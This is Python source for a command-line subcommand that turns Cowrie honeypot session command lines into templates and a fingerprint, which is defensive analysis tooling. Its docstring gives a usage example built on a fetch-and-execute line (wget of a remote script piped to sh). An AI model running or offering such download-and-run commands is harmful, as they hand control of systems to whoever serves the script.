"""The command ``fingerprint``."""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final, TextIO

import click

from cowrie_sessionstats.commands.explanations import Explained
from cowrie_sessionstats.summary import printable


@click.command()
@click.argument("file", type=click.File("r", "utf-8", errors="surrogateescape"), default="-")
@click.option("--explain", is_flag=True, help="Show what was replaced, and by which rule.")
@click.option("--json", "as_json", is_flag=True, help="Print one JSON object.")
@click.option(
    "--sessions",
    is_flag=True,
    help="Read many sessions, each a JSON list of command lines on a line; print an object each.",
)
@click.option(
    "--vocabulary",
    type=click.Path(path_type=Path, exists=True, dir_okay=False),
    help="Add a vocabulary of your own, as the option of that name in cowrie.cfg does.",
)
def fingerprint(
    file: TextIO, *, explain: bool, as_json: bool, sessions: bool, vocabulary: Path | None
) -> None:
    """Print the template of each command line in FILE, and the session's fingerprint.

    FILE holds the command lines of one session, one on a line; without it they are read from the
    standard input: echo 'wget http://203.0.113.9/x.sh; sh x.sh' | cowrie-sessionstats fingerprint
    """
    from cowrie_sessionstats.commands import (  # noqa: PLC0415 - only this needs it
        Templates,
        VocabularyError,
        default_vocabulary,
        explanations,
        read_vocabulary,
    )

    try:
        known = default_vocabulary() if vocabulary is None else read_vocabulary(vocabulary)
    except VocabularyError as error:
        raise click.ClickException(str(error)) from None
    if not sessions and not as_json:
        if file.isatty():
            click.echo("Command lines, one on a line; Ctrl-D ends them.", err=True)
        _show(*explanations.explain(_lines(file), known), explain=explain)
        return
    templates = Templates(known)  # one for all: command lines recur from session to session
    for session in _sessions(file) if sessions else [list(_lines(file))]:
        if explain:
            lines, found = explanations.explain(session, known)
        else:
            lines, found = explanations.templated(session, templates)
        result: dict[str, Any] = {
            "fingerprint": found,
            "commands": [line.as_json(explain=explain) for line in lines],
        }
        if known.extension is not None:
            result["vocabulary"] = known.extension
        click.echo(json.dumps(result))


_TEMPLATE: Final = 4096
_ORIGINAL: Final = 60  # characters of a template and of what was replaced, on a terminal


def _show(lines: list[Explained], found: str, *, explain: bool) -> None:
    for line in lines:
        click.echo(printable(line.template, _TEMPLATE))
        for each in line.replaced if explain else ():
            original = printable(each.original, _ORIGINAL)
            click.echo(f"    {each.placeholder:10} {original}  ({each.rule})")
    click.echo(found)


def _lines(file: TextIO) -> Iterator[str]:
    return (line.removesuffix("\n") for line in file)


def _sessions(file: TextIO) -> Iterator[list[str]]:
    """Yield the sessions in a file of JSON lists, with a bar if only people see the errors."""
    name = getattr(file, "name", "<stdin>")
    path = Path(name)
    if path.is_file() and sys.stderr.isatty() and not sys.stdout.isatty():
        with click.progressbar(length=path.stat().st_size, file=sys.stderr) as bar:
            for number, line in enumerate(file, 1):
                bar.update(len(line.encode("utf-8", "surrogateescape")))
                yield from _session(line, f"{name}, line {number}")
    else:
        for number, line in enumerate(file, 1):
            yield from _session(line, f"{name}, line {number}")


def _session(line: str, where: str) -> list[list[str]]:
    if not line.strip():
        return []
    try:
        session = json.loads(line)
    except (ValueError, RecursionError):
        session = None
    if not isinstance(session, list) or not all(isinstance(text, str) for text in session):
        raise click.ClickException(
            f'{where}: this is no JSON list of command lines, such as ["uname -a", "exit"]'
        )
    return [session]
